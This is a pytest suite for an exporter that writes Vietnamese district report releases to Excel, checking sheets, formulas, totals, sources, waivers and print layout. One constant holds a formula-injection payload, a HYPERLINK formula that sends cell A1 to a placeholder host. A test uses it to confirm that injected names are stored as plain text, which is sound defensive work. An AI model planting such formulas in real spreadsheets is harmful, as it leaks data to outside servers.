import io
import zipfile
from dataclasses import replace
from decimal import Decimal

import pytest
from exported.formulas import work_out
from openpyxl import Workbook, load_workbook

from district_reports.exports.workbook.build import build_workbook
from district_reports.warehouse.releases.published import PublishedRelease

STATED_BY = "Số đơn vị nêu số này"
EVIL_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Suối Mơ")'


@pytest.fixture
def workbook(release: PublishedRelease) -> Workbook:
    return read(release)


def read(release: PublishedRelease, *, results: bool = False) -> Workbook:
    """The workbook as it is written; with `results`, what a program sees that does not calculate."""
    return load_workbook(io.BytesIO(build_workbook(release)), data_only=results)


def column(workbook: Workbook, sheet: str, heading: str) -> list[object]:
    """What stands below a heading, wherever on the sheet it is."""
    columns = [list(cells) for cells in workbook[sheet].iter_cols(values_only=True) if heading in cells]
    assert len(columns) == 1, f"{heading} is not the heading of one column of {sheet}"
    return columns[0][columns[0].index(heading) + 1 :]


def test_sheets_are_in_reading_order(workbook: Workbook):
    assert workbook.sheetnames == [
        "Tổng hợp", "Theo đơn vị", "Giải ngân", "Giảm nghèo", "Thiếu, giữ lại", "Thay đổi", "Phát hiện", "Miễn trừ",
        "Nguồn số liệu", "Đợt công bố",
    ]  # fmt: skip


def test_every_row_is_followed_by_the_units_it_is_made_of(workbook: Workbook):
    assert column(workbook, "Giải ngân", "Đơn vị báo cáo") == [
        "Tổng cộng", STATED_BY, "Suối Mơ", "Núi Xa",
        "Tổng cộng", STATED_BY, "Núi Xa",
        "Tổng cộng", STATED_BY, "Suối Mơ",
    ]  # fmt: skip


def test_money_is_exact_and_what_is_not_stated_is_empty(release: PublishedRelease):
    shown = read(release, results=True)
    assert column(shown, "Giải ngân", "Đã giải ngân (đồng)") == [
        35_000_000, 2, 30_000_000, 5_000_000, None, None, None, 16_740_000, 1, 16_740_000,
    ]  # fmt: skip
    assert column(shown, "Giải ngân", "Vốn giao (đồng)") == [
        100_000_000, 2, 90_000_000, 10_000_000, None, None, "không thuộc", None, None, None,
    ]  # fmt: skip


def test_totals_and_rates_are_formulas_that_give_what_programs_show_that_do_not_calculate(release: PublishedRelease):
    formulas, shown = read(release), read(release, results=True)
    cells = [(ws.title, cell) for ws in formulas for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
    assert len(cells) >= 15
    for title, cell in cells:
        assert work_out(formulas, title, cell.coordinate) == Decimal(str(shown[title][cell.coordinate].value)), cell


def test_rate_follows_when_a_unit_s_number_is_mended(workbook: Workbook):
    assert work_out(workbook, "Tổng hợp", find(workbook, "Tổng hợp", "Tỷ lệ giải ngân")) == Decimal("35.00")
    workbook["Giải ngân"][find(workbook, "Giải ngân", 5_000_000)].value = 15_000_000
    assert work_out(workbook, "Tổng hợp", find(workbook, "Tổng hợp", "Tỷ lệ giải ngân")) == Decimal("45.00")


def find(workbook: Workbook, sheet: str, value: object) -> str:
    """The cell that holds a number, or the one to the right of a text."""
    [cell] = [cell for row in workbook[sheet].iter_rows() for cell in row if cell.value == value]
    return cell.offset(0, 1).coordinate if isinstance(value, str) else cell.coordinate


def test_each_number_tells_of_how_many_units_it_is_and_a_rate_how_it_was_made(one_sided: PublishedRelease):
    shown = read(one_sided, results=True)
    told = {row[0]: row[4:] for row in shown["Tổng hợp"].iter_rows(values_only=True)}
    assert told["Vốn giao"] == (2, 3, None)
    assert told["Đã giải ngân"] == (1, 3, None)
    assert told["Tỷ lệ giải ngân"] == (1, 3, "30,0 ÷ 90,0 triệu đồng của 1 đơn vị nêu cả hai số")
    assert column(shown, "Giải ngân", "Đã giải ngân (đồng)")[:2] == [30_000_000, 1]
    rate, *_ = [cell for row in shown["Giải ngân"].iter_rows() for cell in row if cell.value == 33.33]
    assert "30,0 ÷ 90,0 triệu đồng" in rate.comment.text


def test_number_of_units_follows_when_another_one_states_the_number(one_sided: PublishedRelease):
    workbook = read(one_sided)
    place = find(workbook, "Tổng hợp", "Đã giải ngân").replace("B", "E")
    assert work_out(workbook, "Tổng hợp", place) == 1
    silent = next(row for row in workbook["Giải ngân"].iter_rows() if row[1].value == "Núi Xa")
    disbursed = workbook["Giải ngân"][find(workbook, "Giải ngân", 30_000_000)].column
    silent[disbursed - 1].value = 5_000_000
    assert work_out(workbook, "Tổng hợp", place) == 2


def test_rates_of_units_are_told_where_they_are_not_added_up(with_targets: PublishedRelease):
    shown = read(with_targets, results=True)
    assert column(shown, "Kết quả chỉ tiêu", "Mức thực hiện") == ["45,5 đến 60,0", 2, 45.5, 60]
    assert column(shown, "Kết quả chỉ tiêu", "Mức đề ra") == ["48", 1, 48, None]


def test_rates_that_are_not_added_up_have_their_lines_in_the_sources(with_targets: PublishedRelease):
    sheet = read(with_targets, results=True)["Nguồn số liệu"]
    told = [(row[3], row[4], row[7]) for row in sheet.iter_rows(values_only=True) if row[1] == "Mức thực hiện"]
    assert told[0] == ("Tổng cộng", "45,5 đến 60,0", "Mức thấp nhất và cao nhất của 2 đơn vị, không cộng")
    assert [line[:2] for line in told[1:]] == [("Suối Mơ", 45.5), ("Núi Xa", 60)]


def test_number_that_is_no_sum_of_its_units_is_written_as_it_was_released(release: PublishedRelease):
    divided = release.rows("disbursement")[0] | {"assigned_vnd": 55_000_000, "is_exact": False}
    rows = [divided, *release.rows("disbursement")[1:]]
    workbook = read(replace(release, tables={**release.tables, "disbursement": rows}))
    assert column(workbook, "Giải ngân", "Vốn giao (đồng)")[0] == 55_000_000


def test_every_unit_has_a_row_whether_it_reported_or_not(release: PublishedRelease):
    shown = read(release, results=True)
    assert column(shown, "Theo đơn vị", "Đơn vị báo cáo") == ["Tổng cộng", STATED_BY, "Suối Mơ", "Núi Xa", "Đèo Gió"]
    assert column(shown, "Theo đơn vị", "Tình trạng")[-1] == "chưa gửi báo cáo"
    [rates] = [c for c in shown["Theo đơn vị"].iter_cols(values_only=True) if "Tỷ lệ giải ngân: Toàn" in str(c)]
    assert [float(value) for value in rates[-5:-1]] == [35.0, 2, 33.33, 50.0]


def test_units_that_are_missing_or_held_are_listed_with_the_rules_that_hold_them(release: PublishedRelease):
    critical = release.rows("findings")[0] | {"severity": "critical", "rule": "SUM-901"}
    workbook = read(replace(release, tables={**release.tables, "findings": [critical]}))
    assert column(workbook, "Thiếu, giữ lại", "Đơn vị báo cáo") == ["Đèo Gió", "Suối Mơ", "Núi Xa"]
    assert column(workbook, "Thiếu, giữ lại", "Quy tắc") == [None, "SUM-901", None]


def test_unit_with_an_amount_in_no_sum_is_named_and_the_release_says_why_it_is_provisional(workbook: Workbook):
    told = {row[0]: row[1] for row in workbook["Tổng hợp"].iter_rows(values_only=True)}
    assert told["Còn nội dung bị giữ lại của"] == "Núi Xa"
    assert told["Vì sao tạm thời"] == "1 đơn vị chưa gửi báo cáo"


def test_waiver_says_who_let_what_pass_and_why(workbook: Workbook):
    row = [cell.value for cell in workbook["Miễn trừ"][workbook["Miễn trừ"].max_row]]
    assert row == ["Suối Mơ", "SUM-900", 1, "Phòng Giảm nghèo", "đã đối chiếu", "31/12/2024"]


def test_number_of_a_unit_has_its_quote_and_place_in_a_note(workbook: Workbook):
    note = workbook["Giải ngân"][find(workbook, "Giải ngân", 90_000_000)].comment
    assert "vốn là 90 <img" in note.text
    assert "bao_cao.docx, đoạn 1" in note.text


def test_every_published_number_has_a_line_in_the_sources(workbook: Workbook):
    addresses = set(column(workbook, "Nguồn số liệu", "Ô"))
    numbers = {
        f"{name}!{cell.coordinate}"
        for name in ("Giải ngân", "Giảm nghèo")
        for row in workbook[name].iter_rows()
        if row[1].value == "Tổng cộng"
        for cell in row
        if cell.data_type == "f"
    }
    assert len(numbers) == 6
    assert numbers <= addresses


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r="])
def test_text_that_begins_like_a_formula_stays_text(release: PublishedRelease, begin: str):
    evil = begin + EVIL_NAME[1:]
    sources = [row | {"reporting_unit_name": evil, "quote": evil} for row in release.rows("sources")]
    findings = [row | {"reporting_unit_name": evil, "message_vi": evil} for row in release.rows("findings")]
    header = release.header | {"province_name": evil}
    tables = {**release.tables, "sources": sources, "findings": findings}
    workbook = read(replace(release, header=header, tables=tables))
    found = [cell for ws in workbook for row in ws.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert len(found) > 10
    assert {cell.data_type for cell in found} == {"s"}
    quoted = [cell.quotePrefix for cell in found if str(cell.value).startswith(("=", "+", "-", "@"))]
    assert all(quoted)


def test_numbers_are_numbers_shown_as_in_viet_nam(workbook: Workbook):
    cell = workbook["Giải ngân"][find(workbook, "Giải ngân", 90_000_000)]
    assert (cell.data_type, cell.number_format) == ("n", "[$-42A]#,##0")


def test_tables_are_ready_for_a4(workbook: Workbook):
    for worksheet in workbook:
        assert worksheet.page_setup.paperSize == int(worksheet.PAPERSIZE_A4)
        assert worksheet.page_setup.orientation == "landscape"
    assert workbook["Giải ngân"].print_title_rows == "$5:$5"
    assert workbook["Giải ngân"].freeze_panes == "B6"


def test_every_table_says_how_complete_it_is(workbook: Workbook):
    for title in workbook.sheetnames[:-2]:
        head = " ".join(str(row[0].value) for row in workbook[title].iter_rows(max_row=3))
        assert "Số liệu tạm thời. Mới có 2 trên 3 huyện báo cáo." in head, title


def test_no_time_but_the_release_s_own_is_in_the_file(release: PublishedRelease):
    with zipfile.ZipFile(io.BytesIO(build_workbook(release))) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert core.count("2024-07-10T20:00:00Z") == 2


def test_same_release_gives_the_same_workbook(release: PublishedRelease):
    assert build_workbook(release) == build_workbook(release)
